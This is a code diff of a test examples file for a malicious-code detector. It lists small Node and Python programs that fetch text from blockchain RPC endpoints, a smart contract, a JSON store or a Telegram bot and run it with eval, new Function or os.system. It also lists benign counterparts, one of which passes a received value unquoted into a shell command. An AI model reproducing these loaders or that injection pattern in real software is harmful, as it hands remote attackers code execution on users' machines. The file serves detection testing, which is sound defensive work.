@@ -1,74 +1,110 @@
 import type { Examples } from "@doorward/core";
 
-/** Programs that run what a chain or a store says, and programs that read it. */
+/** Public ledgers, paste sites and chats that decide what runs, and honest callers of each. */
 export const examples: Examples = {
   hits: [
     {
-      name: "a transaction of a chain that is evaluated",
+      name: "a transaction that holds the code",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const body = JSON.stringify({ method: "eth_getTransactionByHash", params: ["0xab"] });\nfetch("https://bsc-dataseed.binance.org", { method: "POST", body })\n  .then((answer) => answer.json())\n  .then(({ result }) => eval(Buffer.from(result.input.slice(2), "hex").toString()));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `(async () => {
+  const answer = await fetch("https://bsc-dataseed.binance.org", { method: "POST" });
+  const { result } = await answer.json();
+  eval(Buffer.from(result.input.slice(2), "hex").toString());
+})();
+`,
       },
     },
     {
-      name: "a pasted text that is evaluated",
+      name: "a store of JSON",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'fetch("https://pastebin.com/raw/abcdefgh").then((answer) => answer.text()).then((text) => eval(text));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.npoint.io/0123456789").then((answer) => answer.json()).then(({ content }) => new Function("require", content)(require));
+`,
       },
     },
     {
-      name: "a store of JSON that becomes a function",
+      name: "a recipient that is an address of a server",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'const axios = require("axios");\n\naxios.get("https://api.npoint.io/0123456789").then(({ data }) => new Function("require", data.content)(require));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const axios = require("axios");
+(async () => {
+  const { data } = await axios.post("https://eth.drpc.org", { method: "eth_getBlockByNumber" });
+  const host = data.result.to.slice(-8).match(/../g).map((part) => parseInt(part, 16)).join(".");
+  const next = await axios.get("http://" + host + ":1224/next");
+  eval(next.data);
+})();
+`,
+      },
+    },
+    {
+      name: "a chat that brings commands",
+      files: {
+        "main.py": `import requests, os
+answer = requests.get("https://api.telegram.org/bot/getUpdates").json()
+os.system(answer["result"][0]["message"]["text"])
+`,
+      },
+    },
+    {
+      name: "a contract that is asked",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { ethers } = require("ethers");
+const provider = new ethers.JsonRpcProvider("https://bsc-dataseed.binance.org");
+new ethers.Contract("0x0", ["function get() view returns (string)"], provider).get().then((text) => eval(text));
+`,
       },
     },
   ],
   misses: [
     {
-      name: "a balance that is shown",
-      why: "Nothing that came is run.",
+      name: "a wallet that shows a balance",
+      why: "The ledger answers with a number, which is shown.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'fetch("https://bsc-dataseed.binance.org", { method: "POST", body: "{}" }).then((answer) => answer.json()).then(console.log);\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { ethers } = require("ethers");
+const provider = new ethers.JsonRpcProvider("https://bsc-dataseed.binance.org");
+provider.getBalance("0x0").then((balance) => console.log(String(balance)));
+`,
       },
     },
     {
-      name: "a message to a chat",
-      why: "Nothing comes back that is run.",
+      name: "a bot that converts what people send it",
+      why: "The code names the program, and the message is a value for it.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://hooks.slack.com/services/a", { method: "POST", body: "done" });\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { exec } = require("child_process");
+fetch("https://api.telegram.org/bot/getUpdates").then((answer) => answer.json()).then(({ file }) => exec("ffmpeg -i " + file));
+`,
       },
     },
     {
-      name: "a plug-in of the maker's own server",
-      why: "The server has a name and an owner.",
+      name: "a list from a paste site",
+      why: "The list is read as data.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://plugins.example/a.js").then((answer) => answer.json()).then(console.log);\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://pastebin.com/raw/x").then((answer) => answer.text()).then((text) => console.log(text.split(",").length));
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "an own server that passes the text on",
+      name: "a ledger that no list of hosts holds",
       caughtBy: "code/fetched-code-runs",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://relay.example/next").then((answer) => answer.text()).then((text) => eval(text));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://node.example", { method: "POST", body: "eth_call" }).then((answer) => answer.json()).then(({ result }) => eval(result));
+`,
       },
     },
   ],
